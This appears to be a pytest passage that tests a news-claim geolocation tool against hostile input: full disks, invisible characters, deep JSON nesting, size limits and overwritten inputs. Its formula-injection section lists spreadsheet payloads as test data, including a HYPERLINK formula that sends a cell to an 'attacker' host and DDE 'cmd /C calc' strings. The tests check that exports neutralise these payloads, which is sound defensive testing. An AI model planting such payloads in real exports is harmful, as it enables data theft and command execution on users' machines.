"""Hostile and unlucky input, by family (issue 11): nothing wrong written, nothing lost.

Test names carry their family so the suite can be counted by family
(``pytest --collect-only -q tests/test_hostile.py | grep -c test_f2_``):

f1 formula injection in tabular exports, f2 full disk, f3 invisible characters,
f4 crashes where an input error is due, f5 claim ids, f6 outputs that destroy
inputs, f7 sizes, f8 values that slip through, f9 strict / --skip-invalid.

Every input is made in the test. Each case checks the exit status, that the
message names the file (and line and field where there is one), and that nothing
stored or written before is changed.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from smallfs import fill, small_fs

from geo import atomic
from geo.cli import main
from geo.sources import InputError, read_articles, read_articles_bytes

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "data" / "sample" / "seed_articles.jsonl"
GOOD = {"id": "g1", "published": "2024-08-15",
        "text": "Russian forces captured the village of Novohrodivka, the ministry said."}


def run(capsys, *argv):
    """Run ``geo ARGV`` in-process; return (exit status, stdout, stderr)."""
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def jsonl(path: Path, *rows: dict | str) -> Path:
    lines = [r if isinstance(r, str) else json.dumps(r) for r in rows]
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    return path


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def temporaries(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".tmp" in p.name)


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    """Return a GeoPackage store holding the sample corpus, ingested once by the CLI."""
    store = tmp_path_factory.mktemp("hostile") / "claims.gpkg"
    assert main(["ingest", str(SEED), "--store", str(store), "--no-progress"]) == 0
    return store


# ------------------------------------------------------------------ f1 formula injection

PAYLOADS = ['=HYPERLINK("http://attacker/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\n@x",
            "\uff1d1+1"]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet would run the cell as a formula (numbers are fine)."""
    try:
        float(cell)
        return False
    except ValueError:
        pass
    return cell.startswith(FORMULA) or cell.lstrip(" \n\r\t").startswith(FORMULA)


def csv_cells(data: bytes) -> list[str]:
    import csv
    import io

    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
            for c in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_f1_every_text_cell_of_the_acled_csv_is_neutralised(payload):
    from geo.export import acled_csv_bytes
    from geo.schema import CLAIM_DTYPES
    from geo.synthetic import synthetic_claims

    claims = synthetic_claims(6, seed=3)
    for col, dtype in CLAIM_DTYPES.items():
        if dtype == "string" and col not in ("claim_type", "published", "event_date",
                                             "date_precision", "country_code", "unit"):
            claims[col] = payload  # every free-text property of a claim
    cells = csv_cells(acled_csv_bytes(claims, timestamp=0))
    assert not [c for c in cells if dangerous(c)]
    kept = payload.replace("\r", "\n")  # line ends as LF
    assert any(c.startswith("'") and kept in c for c in cells)  # kept, as text


def test_f1_negative_numbers_stay_numbers():
    from geo.export import acled_csv_bytes
    from geo.synthetic import synthetic_claims

    claims = synthetic_claims(3, seed=1)
    claims["longitude"] = -73.5
    cells = csv_cells(acled_csv_bytes(claims, timestamp=0))
    assert "-73.5" in cells and "'-73.5" not in cells


def test_f1_hostile_article_through_ingest_and_export(capsys, tmp_path):
    art = {"id": "x1", "published": "2024-08-15",
           "text": "=1+1 " + CLEAN[0] + " -5 @cmd " + CLEAN[1],
           "title": "+cmd|' /C calc'!A0", "source": PAYLOADS[0], "url": "@http://x"}
    store, out = tmp_path / "s.gpkg", tmp_path / "x.csv"
    assert run(capsys, "ingest", jsonl(tmp_path / "a.jsonl", art), "--store", store,
               "--no-progress")[0] == 0
    assert run(capsys, "export", "--store", store, "--out", out)[0] == 0
    cells = csv_cells(out.read_bytes())
    assert len(cells) > 40 and not [c for c in cells if dangerous(c)]
    assert "'" + PAYLOADS[0] in cells  # the source, neutralised, still readable


# ------------------------------------------------------------------ f2 full disk

EXPORTS = ["geojson", "csv", "kml", "gpkg"]


@pytest.mark.parametrize("fmt", EXPORTS)
def test_f2_export_to_a_full_disk_fails_naming_file_and_cause(capsys, tmp_path, seeded, fmt):
    """A real small file system that fills up: exit 1, old file intact, no temporary."""
    with small_fs(tmp_path, 1024) as mnt:
        if mnt is None:
            pytest.skip("cannot mount a small file system here (not root)")
        out = mnt / f"claims.{fmt}"
        out.write_bytes(b"the analyst's previous export")
        fill(mnt, leave_bytes=2048)
        code, _, err = run(capsys, "export", "--store", seeded, "--out", out)
        assert code == 1
        assert str(out) in err and "No space left on device" in err
        assert "claims ->" not in err  # no success line
        assert out.read_bytes() == b"the analyst's previous export"
        assert temporaries(mnt) == []


def test_f2_extract_to_a_full_disk(capsys, tmp_path):
    with small_fs(tmp_path, 256) as mnt:
        if mnt is None:
            pytest.skip("cannot mount a small file system here (not root)")
        out = mnt / "claims.geojson"
        fill(mnt, leave_bytes=1024)
        code, _, err = run(capsys, "extract", SEED, "--out", out, "--no-progress")
        assert code == 1
        assert str(out) in err and "No space left on device" in err
        assert not out.exists() and temporaries(mnt) == []


def test_f2_ingest_on_a_full_disk_one_clear_error_store_as_before(capsys, tmp_path):
    devset = ROOT / "tests" / "devset" / "articles.jsonl"
    with small_fs(tmp_path, 8192) as mnt:
        if mnt is None:
            pytest.skip("cannot mount a small file system here (not root)")
        store = mnt / "claims.gpkg"
        code, _, err = run(capsys, "ingest", SEED, "--store", store, "--no-progress")
        assert code == 0, err
        before = json.loads(run(capsys, "stats", "--store", store, "--json")[1])
        fill(mnt, leave_bytes=96 * 1024)  # room to open the store, not for the batch
        code, _, err = run(capsys, "ingest", devset, "--store", store, "--no-progress")
        assert code == 1
        assert err.count("geo: error") == 1 and "Traceback" not in err
        assert "cannot store" in err
        assert str(store) in err and "no space left on device" in err
        assert "cannot rollback" not in err
        (mnt / "filler.bin").unlink()
        after = json.loads(run(capsys, "stats", "--store", store, "--json")[1])
        assert (after["articles"], after["claims"]) == (before["articles"], before["claims"])


def test_f2_a_new_store_on_a_full_disk_is_not_left_half_made(capsys, tmp_path):
    with small_fs(tmp_path, 256) as mnt:
        if mnt is None:
            pytest.skip("cannot mount a small file system here (not root)")
        fill(mnt, leave_bytes=0)
        store = mnt / "new.gpkg"
        code, _, err = run(capsys, "ingest", SEED, "--store", store, "--no-progress")
        assert code == 1 and "no space left on device" in err and "Traceback" not in err
        assert sorted(p.name for p in mnt.iterdir()) == ["filler.bin"]


class _FullDisk:
    """A file object that takes 100 bytes, then raises ENOSPC like a full disk."""

    def __init__(self, path, mode):
        self._fh = open(path, mode)  # noqa: SIM115 - closed in close()

    def write(self, data):
        self._fh.write(data[:100])
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def __getattr__(self, name):
        return getattr(self._fh, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self._fh.close()


@pytest.mark.parametrize("fmt", ["geojson", "csv", "kml"])
def test_f2_a_writer_raising_enospc(capsys, tmp_path, seeded, monkeypatch, fmt):
    """Without a mountable file system: the write itself raises ENOSPC."""
    out = tmp_path / f"claims.{fmt}"
    out.write_bytes(b"old")
    monkeypatch.setattr(atomic, "open", _FullDisk, raising=False)
    code, _, err = run(capsys, "export", "--store", seeded, "--out", out)
    assert code == 1
    assert f"cannot write {out}" in err and "No space left on device" in err
    assert out.read_bytes() == b"old" and temporaries(tmp_path) == []


# ------------------------------------------------------------------ f3 invisible characters

ZWSP, ZWJ, SHY, BOM = "\u200b", "\u200d", "\u00ad", "\ufeff"
CLEAN = [
    "Russian forces captured Pokrovsk on Tuesday, the Russian defence ministry said.",
    "Ukrainian drones struck Belgorod overnight, Governor Vyacheslav Gladkov said.",
    "Ukrainian troops advanced three kilometres near Sudzha in the Kursk region, "
    "Oleksandr Syrskyi said.",
    "Ukrainian forces control 28 settlements and 28 square kilometres in Kursk region, "
    "Syrskyi said.",
    "Russian missiles hit two districts of Kharkiv. Three people were killed and 12 "
    "wounded, the governor said.",
]


def claims_of(texts: list[str]):
    import pandas as pd

    from geo.cli import _resources
    from geo.extract import extract_claims

    frame = pd.DataFrame({"id": [f"a{i}" for i in range(len(texts))],
                          "published": "2024-08-15", "text": texts})
    return extract_claims(frame, _resources())


def what_where(claims) -> list[tuple]:
    """Each claim's article, type, place and unit: what must not move."""
    return sorted((r.article_id, r.claim_type, r.place_id, str(r.unit))
                  for r in claims.itertuples())


@pytest.fixture(scope="module")
def clean_claims():
    found = what_where(claims_of(CLEAN))
    assert {t for _, t, _, _ in found} >= {"control", "strike", "advance", "casualties"}
    return found


@pytest.mark.parametrize("dirty", [
    (0, "Pokrovsk", f"Pok{ZWSP}rovsk"),  # geocoded to Austria
    (1, "Belgorod", f"Bel{ZWSP}gorod"),  # geocoded to Brazil
    (0, "Pokrovsk", f"Pok{SHY}rovsk"),  # another town
    (0, "captured", f"captured{ZWJ}"),  # the claim was lost
    (0, "captured", f"{ZWJ}captured"),
    (4, "Kharkiv. Three", f"Kharkiv.{BOM} Three"),  # the next claim was lost
    (4, "districts", f"dis{BOM}tricts"),
    (2, "Sudzha", f"Sud{ZWSP}{SHY}zha"),
    (1, "Belgorod", "Belgorod\u2060"),  # word joiner
    (3, "28 square", "28\u00a0square"),  # no-break space
    (3, "Kursk region", "Kursk\u202fregion"),  # narrow no-break space
])
def test_f3_invisible_characters_move_no_place_and_lose_no_claim(clean_claims, dirty):
    i, old, new = dirty
    texts = list(CLEAN)
    assert old in texts[i]
    texts[i] = texts[i].replace(old, new, 1)
    claims = claims_of(texts)
    assert what_where(claims) == clean_claims
    sentences = set(claims["sentence"])
    if ". " not in old:  # within one sentence: the sentence is shown as written
        assert any(new in s for s in sentences)


def test_f3_markup_and_references_are_read_as_text(clean_claims):
    texts = [CLEAN[0].replace("Pokrovsk", "<b>Pokrovsk</b>"),
             CLEAN[1].replace("Belgorod", "Bel&shy;gorod").replace(" ", "&nbsp;", 2),
             CLEAN[2].replace("Sudzha", "Sud<span class='x'>zha</span>"),
             CLEAN[3].replace("28 settlements", "28&#8203; settlements"),
             CLEAN[4].replace("Kharkiv", "Khar<!-- c -->kiv")]
    claims = claims_of(texts)
    assert what_where(claims) == clean_claims
    assert not any("<" in s or "&" in s for s in claims["sentence"])  # the clean sentence


INVISIBLE = st.one_of(
    st.characters(categories=["Cf"]),  # every format character: ZW*, BOM, bidi, tags...
    st.sampled_from(["\u00ad", "\ufe0f", "\u034f", "\x00", "\x7f", "\x9c"]),
)
MARKUP = st.sampled_from(["<b>", "</b>", "<i>", "</i>", "<em>", "</em>", "<span>", "</span>",
                          '<span class="n">', "<wbr>", "<!-- x -->", "&#8203;", "&shy;",
                          "&zwj;", "&#x200B;", "<a href='x'>", "</a>", "<strong>"])
SPACES = st.sampled_from(["\u00a0", "\u2009", "\u202f", "\u3000", "\u2007", "&nbsp;",
                          "\u2002"])


@st.composite
def dirty_texts(draw) -> list[str]:
    """Return the clean texts, spaces swapped, invisible characters or markup inserted."""
    out = []
    for text in CLEAN:
        units = list(text)  # whole units: nothing is inserted inside an entity or a tag
        spaces = [k for k, c in enumerate(units) if c == " "]
        for k in draw(st.lists(st.sampled_from(spaces), max_size=3, unique=True)):
            units[k] = draw(SPACES)
        for pos in sorted(draw(st.lists(st.integers(0, len(units)), max_size=6)),
                          reverse=True):
            units.insert(pos, draw(st.one_of(INVISIBLE, MARKUP)))
        out.append("".join(units))
    return out


@settings(max_examples=300, deadline=None)
@given(texts=dirty_texts())
def test_f3_property_normalised_text_is_the_clean_text(texts):
    from geo.text import normalise

    assert [normalise(t).text for t in texts] == CLEAN


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=dirty_texts())
def test_f3_property_claims_keep_their_place_and_type(clean_claims, texts):
    """Real spaCy model and gazetteer: the dirty texts give the clean texts' claims."""
    assert what_where(claims_of(texts)) == clean_claims


# ------------------------------------------------------------------ f4 input errors, not crashes


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_f4_deeply_nested_json_line(capsys, tmp_path, depth):
    path = jsonl(tmp_path / "a.jsonl", GOOD,
                 '{"id": "n", "published": "2024-08-15", "text": "x", "title": '
                 + "[" * depth + "]" * depth + "}")
    code, _, err = run(capsys, "extract", path, "--out", tmp_path / "o.geojson")
    assert code == 1
    assert f"{path}:2:" in err and "Traceback" not in err
    assert not (tmp_path / "o.geojson").exists()


def test_f4_deeply_nested_json_array(tmp_path):
    path = tmp_path / "a.json"
    path.write_text('[{"id": "a", "published": "2024-08-15", "text": "x", "url": '
                    + "[" * 50_000 + "]" * 50_000 + "}]")
    with pytest.raises(InputError) as err:
        read_articles(path)
    assert err.value.file == str(path) and err.value.line == 1


def test_f4_nested_json_upload_in_the_app_is_an_input_error():
    """The dashboard catches InputError and shows it; a RecursionError was a crash box."""
    from geo.appstate import ingest_files

    data = ('{"id": "a", "published": "2024-08-15", "text": "x", "title": '
            + "[" * 100_000 + "]" * 100_000 + "}\n").encode()
    with pytest.raises(InputError) as err:
        ingest_files([("upload.jsonl", data)], store=None)
    assert str(err.value).startswith("upload.jsonl:1:")
    assert "/" not in str(err.value).split(":", 2)[2]  # no server paths in the message


@pytest.mark.parametrize("digits", [5_000, 250])
def test_f4_huge_numeric_id_names_file_line_and_field(tmp_path, digits):
    path = jsonl(tmp_path / "a.jsonl",
                 '{"id": ' + "9" * digits + ', "published": "2024-08-15", "text": "x y"}')
    with pytest.raises(InputError) as err:
        read_articles(path)
    assert (err.value.file, err.value.line, err.value.field) == (str(path), 1, "id")


@pytest.mark.parametrize("argv", [
    ["extract", str(SEED), "--out", ""],
    ["extract", str(SEED), "--out", "  "],
    ["export", "--out", ""],
    ["extract", str(SEED), "--out", "x.geojson", "--skip-invalid", "--rejects", ""],
])
def test_f4_empty_out_is_a_usage_error(capsys, argv):
    code, out, err = run(capsys, *argv)
    assert code == 2 and out == "" and "empty file name" in err


@pytest.mark.parametrize("content", [b"", b"\n\n", b"id,published,text\n"])
def test_f4_empty_input_is_the_same_for_extract_and_ingest(capsys, tmp_path, content):
    path = tmp_path / ("a.csv" if content.startswith(b"id") else "a.jsonl")
    path.write_bytes(content)
    code_x, _, err_x = run(capsys, "extract", path, "--out", tmp_path / "o.geojson")
    code_i, out_i, err_i = run(capsys, "ingest", path, "--store", tmp_path / "s.gpkg",
                               "--no-progress")
    assert code_x == code_i == 0, (err_x, err_i)
    assert "0 articles" in err_x and "0 read" in out_i
    assert json.loads((tmp_path / "o.geojson").read_text())["features"] == []


# ------------------------------------------------------------------ f5 claim ids


def test_f5_a_count_and_an_area_in_one_sentence_get_two_ids(capsys, tmp_path):
    src = jsonl(tmp_path / "a.jsonl", dict(GOOD, text=CLEAN[3]))
    out = tmp_path / "o.geojson"
    assert run(capsys, "extract", src, "--out", out)[0] == 0
    feats = json.loads(out.read_text())["features"]
    units = sorted(f["properties"]["unit"] for f in feats)
    assert units == ["km2", "settlements"]
    ids = [f["properties"]["claim_id"] for f in feats]
    assert len(set(ids)) == len(ids) == 2


@pytest.mark.parametrize("field, a, b", [
    ("unit", "km2", "settlements"), ("quantity_max", 3.0, 5.0), ("qualifier", "about", None),
    ("place_id", "geonames:1", "geonames:2"), ("actor", "Russia", "Ukraine"),
    ("claimant", "A", "B"), ("event_date", "2024-08-14", "2024-08-15"),
    ("date_precision", "day", "week"),
])
def test_f5_every_distinguishing_field_changes_the_id(field, a, b):
    from geo.schema import claim_id

    base = ("a1", 3, "control", "Kursk region", "control", 28.0)
    assert claim_id(*base, **{field: a}) != claim_id(*base, **{field: b})
    assert claim_id(*base, **{field: a}) == claim_id(*base, **{field: a})  # stable


NUMBERS = st.sampled_from(["28", "28", "three", "12", "1,000", "about 40", "at least 5"])
UNITS = st.sampled_from(["settlements", "square kilometres", "kilometres", "villages",
                         "km2", "people"])
PLACES = st.sampled_from(["Kursk region", "Sudzha", "Pokrovsk", "the Donetsk region"])


@st.composite
def quantity_sentences(draw) -> str:
    """Return a sentence claiming several quantities about places (the fuzzed shape)."""
    parts = [f"{draw(NUMBERS)} {draw(UNITS)}" for _ in range(draw(st.integers(2, 4)))]
    verb = draw(st.sampled_from(["control", "captured", "took over", "advanced"]))
    return (f"Ukrainian forces {verb} {', '.join(parts[:-1])} and {parts[-1]} in "
            f"{draw(PLACES)}, Syrskyi said.")


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(quantity_sentences(), min_size=1, max_size=4))
def test_f5_property_claim_ids_are_unique_and_stable(texts):
    first = claims_of(texts)
    assert not first["claim_id"].duplicated().any()
    again = claims_of(texts)
    assert list(again["claim_id"]) == list(first["claim_id"])


# ------------------------------------------------------------------ f6 outputs that destroy inputs


def test_f6_out_naming_the_input_file(capsys, tmp_path):
    src = tmp_path / "articles.jsonl"
    src.write_bytes(SEED.read_bytes())
    before = digest(src)
    code, _, err = run(capsys, "extract", src, "--out", src)
    assert code == 2 and "is an input file" in err
    assert digest(src) == before


def test_f6_out_naming_the_input_through_another_path(capsys, tmp_path):
    src = tmp_path / "articles.jsonl"
    src.write_bytes(SEED.read_bytes())
    (tmp_path / "link.geojson").symlink_to(src)
    before = digest(src)
    code, _, err = run(capsys, "extract", src, "--out", tmp_path / "link.geojson")
    assert code == 2 and "input file" in err
    assert digest(src) == before


def test_f6_out_naming_a_folder_leaves_nothing_behind(capsys, tmp_path, seeded):
    folder = tmp_path / "exports"
    folder.mkdir()
    for argv in (["extract", SEED, "--out", folder],
                 ["export", "--store", seeded, "--out", folder, "--format", "geojson"]):
        code, _, err = run(capsys, *argv)
        assert code == 2 and "is a folder" in err
        assert list(folder.iterdir()) == [] and temporaries(tmp_path) == []


def test_f6_rejects_file_inside_an_input_folder(capsys, tmp_path):
    news = tmp_path / "news"
    news.mkdir()
    jsonl(news / "a.jsonl", GOOD)
    code, _, err = run(capsys, "ingest", news, "--skip-invalid", "--rejects",
                       news / "rejected.jsonl", "--store", tmp_path / "s.gpkg")
    assert code == 2 and "would be read as articles" in err
    assert sorted(p.name for p in news.iterdir()) == ["a.jsonl"]


def test_f6_rejects_naming_an_input(capsys, tmp_path):
    src = jsonl(tmp_path / "a.jsonl", GOOD)
    before = digest(src)
    code, _, err = run(capsys, "extract", src, "--out", tmp_path / "o.geojson",
                       "--skip-invalid", "--rejects", src)
    assert code == 2 and "--rejects" in err and digest(src) == before


def test_f6_default_rejects_file_inside_an_input_folder(capsys, tmp_path, monkeypatch):
    news = tmp_path / "news"
    news.mkdir()
    jsonl(news / "a.jsonl", GOOD)
    monkeypatch.chdir(news)  # the default rejected.jsonl would land among the articles
    code, _, err = run(capsys, "ingest", ".", "--skip-invalid", "--store", tmp_path / "s.gpkg")
    assert code == 2 and "would be read as articles" in err
    assert sorted(p.name for p in news.iterdir()) == ["a.jsonl"]


def test_f9_rejects_without_skip_invalid_is_a_usage_error(capsys, tmp_path):
    src = jsonl(tmp_path / "a.jsonl", GOOD)
    code, _, err = run(capsys, "extract", src, "--out", tmp_path / "o.geojson", "--rejects",
                       tmp_path / "r.jsonl")
    assert code == 2 and "--rejects needs --skip-invalid" in err
    assert not (tmp_path / "o.geojson").exists()


# ------------------------------------------------------------------ f7 sizes


def test_f7_article_over_the_length_limit(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("GEO_MAX_ARTICLE_CHARS", "5000")
    path = jsonl(tmp_path / "a.jsonl", GOOD, dict(GOOD, id="long", text="word " * 2000))
    code, _, err = run(capsys, "extract", path, "--out", tmp_path / "o.geojson")
    assert code == 1
    assert f"{path}:2: field 'text'" in err and "10,000 characters" in err
    assert "GEO_MAX_ARTICLE_CHARS" in err


def test_f7_default_article_limit_is_documented_and_enforced(tmp_path):
    from geo.sources import Limits

    limit = Limits.from_settings().article_chars
    path = jsonl(tmp_path / "a.jsonl", dict(GOOD, text="a " * (limit // 2 + 1)))
    with pytest.raises(InputError) as err:
        read_articles(path)
    assert err.value.field == "text" and f"{limit:,}" in str(err.value)
    readme = (ROOT / "README.md").read_text()
    assert "GEO_MAX_ARTICLE_CHARS" in readme and f"{limit:,}" in readme


def test_f7_line_over_the_limit(tmp_path, monkeypatch):
    monkeypatch.setenv("GEO_MAX_LINE_CHARS", "3000")
    path = jsonl(tmp_path / "a.jsonl", GOOD, dict(GOOD, id="x", title="t" * 4000))
    with pytest.raises(InputError) as err:
        read_articles(path)
    assert (err.value.line, err.value.field) == (2, None)
    assert "GEO_MAX_LINE_CHARS" in str(err.value)


def test_f7_csv_field_over_the_limit(tmp_path, monkeypatch):
    monkeypatch.setenv("GEO_MAX_LINE_CHARS", "3000")
    path = tmp_path / "a.csv"
    path.write_text('id,published,text\nok,2024-08-15,"Short text."\nx,2024-08-15,"'
                    + "w " * 3000 + '"\n')
    with pytest.raises(InputError) as err:
        read_articles(path)
    assert err.value.line == 3 and "GEO_MAX_LINE_CHARS" in str(err.value)


def test_f7_csv_articles_over_pythons_default_field_limit_are_read(tmp_path):
    """Python's csv refuses fields over 131,072 characters; our own limit governs."""
    text = "Troops advanced. " * 9000  # 153,000 characters, under the article limit
    path = tmp_path / "a.csv"
    path.write_text(f'id,published,text\nbig,2024-08-15,"{text}"\n')
    assert read_articles(path).loc[0, "text"] == text


def test_f7_file_over_the_size_limit_is_refused_before_reading(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("GEO_MAX_FILE_MB", "1")
    path = tmp_path / "big.jsonl"
    with open(path, "w") as fh:
        for i in range(12_000):
            fh.write(json.dumps(dict(GOOD, id=f"a{i}")) + "\n")
    code, _, err = run(capsys, "extract", path, "--out", tmp_path / "o.geojson")
    assert code == 1 and str(path) in err and "GEO_MAX_FILE_MB" in err


def test_f7_bad_limit_setting_is_named(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("GEO_MAX_ARTICLE_CHARS", "lots")
    path = jsonl(tmp_path / "a.jsonl", GOOD)
    code, _, err = run(capsys, "extract", path, "--out", tmp_path / "o.geojson")
    assert code == 1 and "GEO_MAX_ARTICLE_CHARS" in err


# ------------------------------------------------------------------ f8 values that slip through


@pytest.mark.parametrize("value", ["2024-08-15garbage", "2024-08-15 and more", "2024-08-1",
                                   "20240815x"])
def test_f8_garbage_after_a_date_argument(capsys, value):
    code, _, err = run(capsys, "export", "--out", "x.geojson", "--from", value)
    assert code == 2 and "cannot parse" in err


def test_f8_datetime_argument_still_accepted(capsys, tmp_path, seeded):
    code, _, err = run(capsys, "export", "--store", seeded, "--out", tmp_path / "o.geojson",
                       "--from", "2024-08-01T00:00:00Z")
    assert code == 0, err


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
@pytest.mark.parametrize("field", ["title", "source", "text", "id", "published"])
def test_f8_json_nan_and_infinity_are_rejected(tmp_path, constant, field):
    line = json.dumps(GOOD)[:-1] + f', "{field}": {constant}' + "}"
    line = line.replace(f'"{field}": "', f'"_{field}": "', 1)  # one value per field
    path = jsonl(tmp_path / "a.jsonl", line)
    with pytest.raises(InputError) as err:
        read_articles(path)
    assert (err.value.line, err.value.field) == (1, field)
    assert constant.lstrip("-") in err.value.message


@pytest.mark.parametrize("date", ["0001-01-01", "9999-12-31", "1066-10-14", "2999-01-01"])
def test_f8_implausible_publication_dates(tmp_path, date):
    path = jsonl(tmp_path / "a.jsonl", dict(GOOD, published=date))
    with pytest.raises(InputError) as err:
        read_articles(path)
    assert (err.value.line, err.value.field) == (1, "published")


def test_f8_implausible_published_argument(capsys, tmp_path):
    path = tmp_path / "a.txt"
    path.write_text(GOOD["text"])
    code, _, err = run(capsys, "extract", path, "--published", "9999-01-01",
                       "--out", tmp_path / "o.geojson")
    assert code == 1 and "9999-01-01" in err


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "txt"])
def test_f8_crlf_and_lf_are_the_same_article_on_re_ingest(capsys, tmp_path, fmt):
    text_lf = "Russian forces captured Pokrovsk.\nShelling hit Belgorod overnight."
    store = tmp_path / "s.gpkg"
    for eol, name in (("\n", "lf"), ("\r\n", "crlf"), ("\r", "cr")):
        folder = tmp_path / name
        folder.mkdir()
        body = text_lf.replace("\n", eol)
        path = folder / f"a1.{fmt}"
        if fmt == "jsonl":
            path.write_bytes((json.dumps({"id": "a1", "published": "2024-08-15",
                                          "text": body}) + eol).encode())
        elif fmt == "csv":
            path.write_bytes(f'id,published,text{eol}a1,2024-08-15,"{body}"{eol}'.encode())
        else:
            path.write_bytes(body.encode())
        code, out, err = run(capsys, "ingest", path, "--store", store, "--published",
                             "2024-08-15", "--no-progress")
        assert code == 0, err
        if name != "lf":
            assert "0 new, 0 updated, 1 unchanged" in out, (name, out)


def test_f8_an_impossible_quantity_is_not_infinite(tmp_path):
    from geo.cli import _resources
    from geo.extract import extract_claims

    text = ("Russian forces now control " + "9" * 400
            + " square kilometres in the Kursk region, the ministry said.")
    arts = read_articles(jsonl(tmp_path / "a.jsonl", dict(GOOD, text=text)))
    claims = extract_claims(arts, _resources())
    for q in claims["quantity"].dropna().tolist() + claims["quantity_max"].dropna().tolist():
        assert q == q and abs(q) != float("inf")


def test_f8_repeated_type_url_parameters_are_all_kept():
    from geo.appstate import filter_from_params

    flt, _ = filter_from_params({"type": ["control", "strike"]})
    assert set(flt.claim_types) == {"control", "strike"}


def test_f8_dashboard_reads_every_value_of_a_repeated_url_parameter():
    from geo.dashboard import query_params_dict

    class Params(dict):  # the shape of st.query_params: last value by key, get_all for all
        def get_all(self, key):
            return {"type": ["control", "strike"], "from": ["2024-08-01"]}[key]

    got = query_params_dict(Params({"type": "strike", "from": "2024-08-01"}))
    assert got == {"type": ["control", "strike"], "from": "2024-08-01"}


# ------------------------------------------------------------------ f9 strict and --skip-invalid

BAD_LINES = [
    ('{"id": "b1", "published": "2024-13-45", "text": "x y"}', "published"),
    ('{"id": "b2", "published": "2024-08-15"}', "text"),
    ('{"id": "b3", "published": "2024-08-15", "text": "x", "title": NaN}', "title"),
    ("this is not json", None),
    ('{"id": "g1", "published": "2024-08-15", "text": "Another text, same id."}', "id"),
]


def _mixed_inputs(tmp_path: Path) -> tuple[Path, Path, Path]:
    good = jsonl(tmp_path / "good.jsonl", GOOD,
                 dict(GOOD, id="g2", text="Ukrainian troops entered Sudzha on Tuesday."))
    mixed = jsonl(tmp_path / "mixed.jsonl", dict(GOOD, id="m1", text="Shelling hit Kupiansk."),
                  *[line for line, _ in BAD_LINES])
    binary = tmp_path / "photo.csv"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    return good, mixed, binary


def test_f9_strict_by_default_stores_nothing(capsys, tmp_path):
    good, mixed, binary = _mixed_inputs(tmp_path)
    store = tmp_path / "s.gpkg"
    code, _, err = run(capsys, "ingest", good, mixed, binary, "--store", store)
    assert code == 1 and f"{mixed}:2: field 'published'" in err
    assert not store.exists() or "articles: 0" in run(capsys, "stats", "--store", store)[1]


def test_f9_skip_invalid_stores_the_valid_and_writes_the_rejected(capsys, tmp_path):
    good, mixed, binary = _mixed_inputs(tmp_path)
    store, rejects = tmp_path / "s.gpkg", tmp_path / "out" / "rejected.jsonl"
    rejects.parent.mkdir()
    code, out, err = run(capsys, "ingest", good, mixed, binary, "--store", store,
                         "--skip-invalid", "--rejects", rejects, "--no-progress")
    assert code == 1
    assert "3 read, 3 new" in out and "rejected: 6" in out
    rows = [json.loads(line) for line in rejects.read_text().splitlines()]
    assert sorted((r["file"], r["line"], r["field"] or "") for r in rows) == sorted(
        [(str(mixed), i + 2, field or "") for i, (_, field) in enumerate(BAD_LINES)]
        + [(str(binary), 1, "")])
    assert all(r["reason"] for r in rows)
    records = [r["record"] for r in rows]
    assert "this is not json" in records and {"id": "b2", "published": "2024-08-15"} in records
    assert "6 rejected record(s)" in err
    code, out, _ = run(capsys, "stats", "--store", store, "--json")
    assert json.loads(out)["articles"] == 3


def test_f9_skip_invalid_with_nothing_wrong_exits_0_and_says_so(capsys, tmp_path):
    good = jsonl(tmp_path / "good.jsonl", GOOD)
    rejects = tmp_path / "r.jsonl"
    code, _, err = run(capsys, "extract", good, "--out", tmp_path / "o.geojson",
                       "--skip-invalid", "--rejects", rejects)
    assert code == 0 and "0 rejected" in err and rejects.read_text() == ""


def test_f9_skip_invalid_in_extract_writes_the_valid_claims(capsys, tmp_path):
    good, mixed, binary = _mixed_inputs(tmp_path)
    out = tmp_path / "o.geojson"
    code, _, err = run(capsys, "extract", good, mixed, binary, "--out", out,
                       "--skip-invalid", "--rejects", tmp_path / "r.jsonl")
    assert code == 1 and "3 articles" in err and "6 rejected" in err
    ids = {f["properties"]["article_id"] for f in json.loads(out.read_text())["features"]}
    assert ids <= {"g1", "g2", "m1"} and ids


def test_f9_broken_csv_quoting_keeps_the_rows_before(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text('id,published,text\nc1,2024-08-15,"Shelling hit Kharkiv."\n'
                    'c2,2024-08-15,"unterminated \n')
    rejected: list = []
    df = read_articles(path, rejected=rejected)
    assert df["id"].tolist() == ["c1"]
    assert len(rejected) == 1 and rejected[0].error.line == 3


def test_f9_uploads_skip_invalid_too():
    rejected: list = []
    df = read_articles_bytes([("a.jsonl", (json.dumps(GOOD) + "\n{broken\n").encode())],
                             rejected=rejected)
    assert df["id"].tolist() == ["g1"] and rejected[0].error.line == 2


@pytest.mark.parametrize("command", ["extract", "ingest"])
def test_f9_strict_and_skip_invalid_in_every_reading_commands_help(capsys, command):
    code, out, _ = run(capsys, command, "--help")
    flat = " ".join(out.split())
